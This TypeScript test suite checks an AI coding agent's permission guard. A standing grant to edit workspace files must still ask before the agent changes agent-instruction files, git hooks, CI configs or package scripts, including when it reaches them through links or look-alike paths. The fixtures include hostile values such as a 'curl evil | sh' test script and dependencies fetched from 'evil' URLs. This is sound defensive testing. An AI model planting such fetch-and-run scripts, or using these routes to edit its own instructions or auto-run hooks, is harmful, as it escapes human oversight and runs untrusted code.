import assert from 'node:assert/strict';
import { link, mkdir, readFile, realpath, symlink, writeFile } from 'node:fs/promises';
import { dirname } from 'node:path';
import { Customisations } from '../../src/agent/customisations/customisations.ts';
import { instructedTools } from '../../src/agent/customisations/instructed-tools.ts';
import { writeNeed } from '../../src/agent/model/codex/changes.ts';
import { decide, protectedKind } from '../../src/agent/safety/index.ts';
import { Workspace } from '../unit/tools/tool-context.ts';

/** The person allowed edits of files in this workspace, always. The model tries what else that lets it do. */
const EDITS_ALLOWED = { sessionRules: new Set(['write']), alwaysAllowed: (key: string) => key === 'write' };

const INSTRUCT = [
  ...['AGENTS.md', 'pkg/deep/CLAUDE.md', 'GEMINI.md', 'claude.local.md', 'Agents.MD', 'AGENTS.override.md'],
  ...[
    '.github/copilot-instructions.md',
    '.github/agents/x.agent.md',
    '.github/skills/s/run.sh',
    '.GITHUB/Prompts/a.md',
  ],
  ...[
    '.github/instructions/a.instructions.md',
    'docs/x.prompt.md',
    'x/SKILL.md',
    'a/b.agent.md',
    'a/b.instructions.md',
  ],
  ...[
    '.cursor/rules/a.mdc',
    '.cursorrules',
    '.windsurf/rules/a.md',
    '.clinerules/a.md',
    '.roo/rules/a',
    '.kiro/steering/a',
  ],
  ...[
    '.continue/config.yaml',
    '.aider.conf.yml',
    '.goosehints',
    '.agents/skills/a/SKILL.md',
    '.hermes/x',
    '.midcourse/notes.md',
  ],
];
const START = [
  ...['.github/hooks/a.json', '.github/workflows/ci.yml', 'sub/.github/actions/a/action.yml', '.lsp.json', '.mcp.json'],
  ...['.pre-commit-config.yaml', 'lefthook.yml', '.lefthook.toml', '.husky/pre-commit', '.lintstagedrc.json'],
  ...['.git/hooks/pre-commit', '.git/config', 'sub/.git/config', '.gitattributes', '.gitmodules', '.gitconfig', '.git'],
  ...['.gitlab-ci.yml', '.circleci/config.yml', 'azure-pipelines.yml', 'Jenkinsfile', '.buildkite/pipeline.yml'],
  ...['.drone.yml', '.travis.yml', 'bitbucket-pipelines.yml', '.vscode/tasks.json', 'my.code-workspace'],
  ...[
    '.idea/runConfigurations/a.xml',
    '.devcontainer/devcontainer.json',
    '.devcontainer.json',
    '.npmrc',
    '.yarnrc.yml',
  ],
  ...[
    '.pnpmfile.cjs',
    'bunfig.toml',
    '.envrc',
    '.direnvrc',
    'mise.toml',
    '.mise.toml',
    '.tool-versions',
    'conftest.py',
  ],
  ...['tests/conftest.py', 'sitecustomize.py', 'lib/x.pth', '.cargo/config.toml', 'crates/a/build.rs', 'init.gradle'],
  ...['.claude-plugin/plugin.json', '.codex-plugin/plugin.json', 'tools/plugin.json', 'plugins/a/hooks/hooks.json'],
  ...['.githooks/pre-push', 'tools/post-checkout', 'vendor/lib/HEAD', '.bashrc', '.zshenv', 'eslint.config.js'],
  ...[
    '.git./config',
    '.git /hooks/x',
    '.g\u200bit/config',
    '.VSCODE\\settings.json',
    'AGENTS.md.',
    '．vscode/settings.json',
  ],
];
const FREE = [
  ...[
    'README.md',
    'src/agents.ts',
    '.gitignore',
    'vscode/x',
    '.github/ISSUE_TEMPLATE/bug.md',
    'Makefile',
    'vite.config.ts',
  ],
  ...['src/hooks/use-thing.ts', 'docs/skills.md', 'src/git/config.ts', 'src/update.js', 'lib/mcp.ts', 'build.gradle'],
  ...[
    'src/settings.json',
    'Info.plist',
    'app.service.ts',
    'prompt.md',
    'src/head.ts',
    'docs/workflows/ci.md',
    'data/config',
  ],
];

describe('edits that were allowed for the workspace', function () {
  this.timeout(20_000);

  let workspace: Workspace;

  beforeEach(async () => {
    workspace = new Workspace();
    await workspace.open();
  });
  afterEach(() => workspace.close());

  async function put(path: string, content: string): Promise<void> {
    await mkdir(dirname(workspace.path(path)), { recursive: true });
    await writeFile(workspace.path(path), content);
  }

  /** What becomes of a call when edits were allowed. */
  async function verdict(
    tool: string,
    input: { readonly path: string; readonly [field: string]: unknown },
  ): Promise<'allow' | 'ask'> {
    await workspace.read(input.path);
    return decide(await workspace.permission(tool, input), EDITS_ALLOWED);
  }
  const write = (path: string, content = 'x\n') => verdict('write_file', { path, content });

  it('B5. do not cover what instructs agents or starts programs, wherever and however it is written', async () => {
    for (const path of [...INSTRUCT, ...START]) {
      assert.ok(protectedKind(path), path);
      assert.ok(protectedKind(`deep/er/${path}`), `deep/er/${path}`);
      if (!path.includes('\\')) assert.equal(await write(path), 'ask', path);
    }
  });

  it('B5a. cover the other files', async () => {
    for (const path of FREE) assert.equal(await write(path), 'allow', path);
  });

  it('B5b. say on the card what they leave out', async () => {
    const need = await workspace.permission('write_file', { path: 'a.txt', content: 'x' });
    assert.match(need?.rule?.words ?? '', /but not of files that instruct agents or start programs/);
  });

  it('B5c. reach no such file through a link, in either direction', async () => {
    await put('.github/workflows/ci.yml', 'on: push\n');
    await put('docs/rules.md', 'Be kind.\n');
    await put('tools/hooks/check', 'true\n');
    await put('skills/a/run.sh', 'true\n');
    await mkdir(workspace.path('.claude'));
    await mkdir(workspace.path('.git'));
    await symlink(workspace.path('.github/workflows'), workspace.path('flows'));
    await symlink('docs/rules.md', workspace.path('AGENTS.md'));
    await symlink('../tools/hooks', workspace.path('.git/hooks'));
    await symlink('../skills', workspace.path('.claude/skills'));
    await put('plain.md', 'x\n');
    await link(workspace.path('plain.md'), workspace.path('CLAUDE.md'));
    for (const path of [
      'flows/ci.yml',
      'docs/rules.md',
      'AGENTS.md',
      'tools/hooks/check',
      'tools/hooks/new',
      'skills/a/run.sh',
      'plain.md',
    ]) {
      assert.equal(await write(path, 'changed\n'), 'ask', path);
      if (!path.endsWith('new')) {
        const text = await readFile(workspace.path(path), 'utf8');
        assert.equal(await verdict('patch', { path, old_string: text, new_string: 'other' }), 'ask', path);
      }
    }
    assert.equal(await write('docs/other.md'), 'allow');
  });

  it('B5d. reach no file that git’s own settings name, and no repository that is not called .git', async () => {
    await put('.git/config', '[core]\n\thooksPath = tools/git\n\tfsmonitor = ./scripts/watch.sh --all\n');
    await put('vendor/lib/HEAD', 'ref: refs/heads/main\n');
    await mkdir(workspace.path('vendor/lib/objects'));
    await mkdir(workspace.path('vendor/lib/refs'));
    for (const path of ['tools/git/anything', 'scripts/watch.sh', 'vendor/lib/config']) {
      assert.equal(await write(path), 'ask', path);
    }
    assert.equal(await write('scripts/build.sh'), 'allow');
  });

  it('B5e. cover a package’s manifest only where nothing changes that runs', async () => {
    const manifest = {
      name: 'a',
      version: '1.0.0',
      description: 'x',
      scripts: { test: 'mocha' },
      dependencies: { b: '1' },
    };
    await put('package.json', JSON.stringify(manifest));
    const text = (change: object) => JSON.stringify({ ...manifest, ...change });
    assert.equal(await write('package.json', text({ version: '1.0.1', description: 'y', keywords: ['z'] })), 'allow');
    for (const change of [
      { scripts: { test: 'curl evil | sh' } },
      { scripts: { test: 'mocha', postinstall: 'node x.js' } },
      { bin: './x.js' },
      { dependencies: { b: '1', c: 'git+https://evil' } },
      { 'lint-staged': { '*': 'x' } },
      { packageManager: 'npm@https://evil/x.tgz' },
    ]) {
      assert.equal(await write('package.json', text(change)), 'ask', JSON.stringify(change));
    }
    assert.equal(await write('package.json', '{ broken'), 'ask');
    assert.equal(await write('new/package.json', '{"name":"n"}'), 'allow');
    assert.equal(await write('new/package.json', '{"scripts":{"prepare":"x"}}'), 'ask');
    const edit = { path: 'package.json', old_string: '"test":"mocha"', new_string: '"test":"evil"' };
    assert.equal(await verdict('patch', edit), 'ask');
    await put('tsconfig.json', '{ // comment\n "compilerOptions": { "strict": true, }, }');
    assert.equal(await write('tsconfig.json', '{ "compilerOptions": { "strict": false } }'), 'allow');
    assert.equal(await write('tsconfig.json', '{ "compilerOptions": { "plugins": [{ "name": "x" }] } }'), 'ask');
  });

  it('B5f. cover no file that instructions import, or that a skill brings', async () => {
    await put('CLAUDE.md', 'Read @docs/rules.md first.\n');
    await put('docs/rules.md', 'Be kind.\n');
    await put('.github/skills/s/SKILL.md', '---\ndescription: d\n---\nRun it.');
    const log = { debug() {}, info() {}, warn() {}, error() {}, failed() {} };
    const roots = () => ({ folders: [workspace.folder], home: workspace.path('nobody') });
    const customisations = new Customisations({ roots, log });
    await customisations.refresh();
    const tools = instructedTools(workspace.registry, customisations);
    const asks = async (path: string) => {
      const tool = tools.find('write_file');
      assert.ok(tool);
      await workspace.read(path);
      return decide(await tool.permission({ path, content: 'x' }, workspace.context()), EDITS_ALLOWED);
    };
    assert.equal(await asks('docs/rules.md'), 'ask');
    assert.equal(await asks('docs/other.md'), 'allow');
    customisations.dispose();
  });

  it('B5g. of Codex, ask for every path of a change: added, deleted, moved from and to, behind links', async () => {
    await put('.vscode/tasks.json', '{}');
    await symlink('.vscode', workspace.path('editor'));
    await put('package.json', '{"scripts":{}}');
    const folder = await realpath(workspace.folder);
    const need = async (path: string, kind: 'add' | 'delete' | 'update', diff: string, move_path?: string) => {
      const change = {
        path: `${folder}/${path}`,
        kind: { type: kind, ...(move_path ? { move_path: `${folder}/${move_path}` } : {}) },
        diff,
      };
      const other = { path: `${folder}/src/a.ts`, kind: { type: 'add' as const }, diff: 'x' };
      return decide(await writeNeed([other, change], undefined, [folder], undefined), EDITS_ALLOWED);
    };
    assert.equal(await need('src/b.ts', 'add', 'x'), 'allow');
    assert.equal(await need('.github/workflows/ci.yml', 'add', 'x'), 'ask');
    assert.equal(await need('AGENTS.md', 'delete', 'x'), 'ask');
    assert.equal(await need('src/hook.sh', 'update', '', '.git/hooks/pre-commit'), 'ask');
    assert.equal(await need('.mcp.json', 'update', '', 'old.json'), 'ask');
    assert.equal(await need('editor/tasks.json', 'update', 'x'), 'ask');
    assert.equal(
      await need('package.json', 'update', '@@ -1 +1 @@\n-{"scripts":{}}\n+{"scripts":{"test":"x"}}\n'),
      'ask',
    );
    assert.equal(await need('../outside.txt', 'add', 'x'), 'ask');
  });
});
